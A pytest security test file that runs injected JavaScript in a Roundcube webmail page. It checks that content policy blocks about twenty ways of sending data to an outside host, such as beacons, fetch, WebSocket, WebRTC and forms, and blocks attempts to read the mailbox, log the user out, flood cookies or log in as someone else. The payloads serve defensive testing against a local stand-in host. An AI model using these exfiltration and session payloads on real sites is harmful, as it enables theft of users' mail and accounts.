"""What a script can reach that gets past the sanitiser and runs in the webmail's page.

The outcome is the table in docs/webmail.md.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page

from tests.helpers.clients import LOOPBACK
from tests.helpers.hosts import Host
from tests.helpers.server import Server
from tests.helpers.wait import wait_for
from tests.helpers.webmail import OpenWebmail, Webmail

VICTIM, THIRD = "victim@lock.example", "third@lock.example"
# Each is the body of an async function, with the address of a stranger's host in `out`, and gives
# whether the script has got what it wanted, as far as it can see.
HELPERS = """
const wait = ms => new Promise(done => setTimeout(done, ms));
const text = async (url, options) => (await fetch(url, options)).text();
const add = (html, seconds = 1) => {
  document.body.insertAdjacentHTML("beforeend", html);
  return wait(seconds * 1000);
};
const post = async (action, fields, target) => {
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action, target });
  for (const [name, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement("input"), { name, value }));
  }
  document.body.append(form);
  form.submit();
  await wait(2000);
};
// What a window shows, as far as the script may see that.
const seen = opened => {
  try { return opened.document.body.innerHTML; } catch (error) { return ""; }
};
const shown = async url => {
  const opened = open(url);
  await wait(2500);
  const html = seen(opened);
  opened.close();
  return html;
};
const framed = async url => {
  const frame = document.createElement("iframe");
  frame.src = url;
  document.body.append(frame);
  await wait(2000);
  return seen(frame.contentWindow);
};
const token = () => rcmail.env.request_token;
"""
FORM = '{_task: "login", _action: "login", _user: "third@lock.example", _pass: "third"'
READING = {
    "the mailbox that is open": 'return (await text("/?_task=mail&_mbox=INBOX")).includes(me)',
    "the cookies of the login": 'return document.cookie.includes("sess")',
}
SENDING = {
    "picture": "new Image().src = out",
    "fetch": 'fetch(out, {mode: "no-cors"}).catch(() => 0)',
    "fetch with keepalive": 'fetch(out, {mode: "no-cors", keepalive: true}).catch(() => 0)',
    "XMLHttpRequest": 'const x = new XMLHttpRequest(); x.open("GET", out); x.send()',
    "beacon": 'navigator.sendBeacon(out, "x")',
    "WebSocket": 'new WebSocket(out.replace("http", "ws"))',
    "EventSource": "new EventSource(out)",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: out}))",
    "import": "import(out).catch(() => 0)",
    "style": "await add(`<link rel=stylesheet href=${out}>`)",
    "background": "await add(`<p style='background: url(${out})'>x</p>`)",
    "prefetch": "await add(`<link rel=prefetch href=${out}>`)",
    "preload": "await add(`<link rel=preload as=image href=${out}>`)",
    "icon": "await add(`<link rel=icon href=${out}>`)",
    "font": 'new FontFace("f", `url(${out})`).load().catch(() => 0)',
    "video": "await add(`<video src=${out} poster=${out} autoplay></video>`)",
    "frame": "await add(`<iframe src=${out}></iframe><object data=${out}></object>`)",
    "manifest": "await add(`<link rel=manifest href=${out}>`)",
    "form": 'await post(out, {x: 1}, "_blank")',
    "ping": "await add(`<a id=p ping=${out} href=#>x</a>`); document.getElementById('p').click()",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${out}')`])))",
}
LOGGING_IN = {
    "POST by fetch": 'await text("/as/third@lock.example", {method: "POST"})',
    "GET by fetch": 'return (await text("/as/third@lock.example")).includes("answer")',
    "HEAD by fetch": 'await fetch("/as/third@lock.example", {method: "HEAD"})',
    "in a frame": 'return (await framed("/as/third@lock.example")).includes("answer")',
    "in a window": 'return (await shown("/as/third@lock.example")).includes("answer")',
    "form into a window": 'await post("/as/", {address: "third@lock.example"}, "_blank")',
    "form into a frame": 'await add("<iframe name=f></iframe>");'
    ' await post("/as/", {address: "third@lock.example"}, "f")',
    "form from a sandbox": "await add(`<iframe sandbox='allow-forms allow-scripts allow-popups"
    " allow-popups-to-escape-sandbox' srcdoc='<form method=post target=_blank action="
    "${origin}/as/><input name=address value=third@lock.example><input name=answer></form>"
    "<script>document.forms[0].submit()</script>'></iframe>`, 2)",
    "link": "await add(`<a id=l target=_blank href=/as/third@lock.example>x</a>`);"
    " document.getElementById('l').click(); await wait(1000)",
    "own login form in a window": 'await shown("/?_task=login")',
    "own login by fetch": f'await text("/?_task=login", {{method: "POST", headers: {{}}, body:'
    f" new URLSearchParams({FORM}, _token: token()}})}})",
    "own login by form": f'await post("/?_task=login", {FORM}, _token: token()}}, "_blank")',
}
LOGGING_OUT = {
    "log out": "await text(`/?_task=logout&_token=${token()}`)",
    # Browsers keep 180 or so of a site, and throw the oldest ones out.
    "throw the cookies out": "for (let n = 0; n < 400; n++) {"
    " document.cookie = `c${Math.random()}=; path=/; secure` }",
}
LOGGING_IN_LATER = {
    "login form by fetch": """
        for (const query of ["", "_task=login", "_framed=1", "_remote=1", "_task=logout"]) {
          const url = `/?${query}`;
          const html = await text(url);
          if (html.includes("_token") || html.includes("request_token")) return true;
        }
        return false""",
    "login form in a frame": 'return (await framed("/?_task=login")).includes("rcmloginuser")',
    "login form in a window": 'return (await shown("/?_task=login")).includes("rcmloginuser")',
    "login by fetch": f'await text("/?_task=login", {{method: "POST", body:'
    f" new URLSearchParams({FORM}, _token: token()}})}})",
    "login by form": f'await post("/?_task=login", {FORM}, _token: token()}}, "_blank")',
    "form of one click": 'await post("/as/", {address: "third@lock.example"}, "_blank")',
    "one click in a window": 'return (await shown("/as/third@lock.example")).includes("answer")',
    "one click by fetch": 'await text("/as/third@lock.example", {method: "POST"})',
}


# In RainLoop no such script runs at all, which has a test.
ONLY_ROUNDCUBE = pytest.mark.parametrize("webmail_settings", ["roundcube"], indirect=True)


@pytest.fixture(scope="module")
def stranger() -> Iterator[Host]:
    with Host() as host:
        yield host
        host.shutdown()


@pytest.fixture
def victim(open_webmail: OpenWebmail) -> Iterator[Webmail]:
    """A window with somebody logged in, whatever the browser complains about later."""
    window = open_webmail()
    window.log_in(VICTIM)
    yield window
    window.complaints.clear()


def run(page: Page, body: str, out: str = "") -> bool:
    """Run a script in the page as a mail's would that got there, and give what it returns."""
    page.evaluate(
        """code => {
            delete window.outcome;
            const script = document.createElement("script");
            script.textContent = code;
            document.body.append(script);
        }""",
        f"(async (out, me) => {{ {HELPERS} {body} }})({out!r}, {VICTIM!r})"
        ".then(value => { window.outcome = Boolean(value); },"
        " error => { window.outcome = false; });",
    )
    page.wait_for_function("window.outcome !== undefined")
    return bool(page.evaluate("window.outcome"))


def test_only_roundcube_runs_scripts_in_its_page(webmail_server: Server, victim: Webmail) -> None:
    victim.page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.ran = 'script'";
            document.body.append(script);
            document.body.insertAdjacentHTML("beforeend", '<p id=x onclick="window.ran = 1">x</p>');
            document.getElementById("x").click();
        }"""
    )
    expected = 1 if webmail_server.settings["webmail"] == "roundcube" else None
    assert victim.page.evaluate("window.ran") == expected


@ONLY_ROUNDCUBE
def test_a_script_can_do_what_its_user_can(victim: Webmail) -> None:
    outcome = {name: run(victim.page, body) for name, body in READING.items()}
    assert outcome == {"the mailbox that is open": True, "the cookies of the login": False}


@ONLY_ROUNDCUBE
def test_a_script_sends_nothing_to_another_site_but_in_three_ways(
    victim: Webmail, stranger: Host
) -> None:
    page = victim.page
    for name, body in SENDING.items():
        run(page, f"{body}; await wait(200)", f"{stranger.origin()}/{name.replace(' ', '-')}")
    page.wait_for_load_state("networkidle")
    assert stranger.asked == []
    # No policy of a page can forbid these: WebRTC, and two ways to leave it.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as heard:
        heard.bind((LOOPBACK, 0))
        heard.settimeout(10)
        run(
            page,
            "const call = new RTCPeerConnection({iceServers: [{urls: `stun:${out}`}]});"
            "call.createDataChannel('x'); await call.setLocalDescription(); await wait(1000)",
            f"{LOOPBACK}:{heard.getsockname()[1]}",
        )
        assert heard.recv(2000)
    run(page, "open(out); await wait(1000)", f"{stranger.origin()}/window")
    page.evaluate("url => { location = url }", f"{stranger.origin()}/location")
    page.wait_for_url(f"{stranger.origin()}/location")
    assert {"window", "location"} <= set(stranger.asked)
    assert set(stranger.asked) <= {"window", "location", "favicon.ico"}


@ONLY_ROUNDCUBE
@pytest.mark.parametrize("first", ["", "log out", "throw the cookies out"])
def test_a_script_logs_in_as_nobody_else(
    webmail_server: Server, victim: Webmail, first: str
) -> None:
    page = victim.page
    if first:
        # Its user may be asked to log in again; but not as another. Without its timers, the page
        # does not notice.
        run(page, "for (let timer = 0; timer < 1e4; timer++) clearInterval(timer)")

        def is_logged_out() -> bool:
            # The browser spares a cookie that it has just sent.
            run(page, LOGGING_OUT[first])
            return not any("auth" in cookie["name"] for cookie in page.context.cookies())

        wait_for(is_logged_out, "the cookies of the login to go", timeout=30, interval=1)
    chosen = LOGGING_IN_LATER if first else LOGGING_IN
    reached = [name for name, body in chosen.items() if run(page, body)]
    assert reached == []
    assert f"user=<{VICTIM}>" in webmail_server.log()
    assert f"user=<{THIRD}>" not in webmail_server.log()
    page.goto(victim.url())
    if not first:
        victim.wait_for_inbox()
        assert victim.user() == VICTIM
    # And the user can.
    victim.page.context.clear_cookies()
    victim.log_in("other@lock.example")
    assert victim.user() == "other@lock.example"
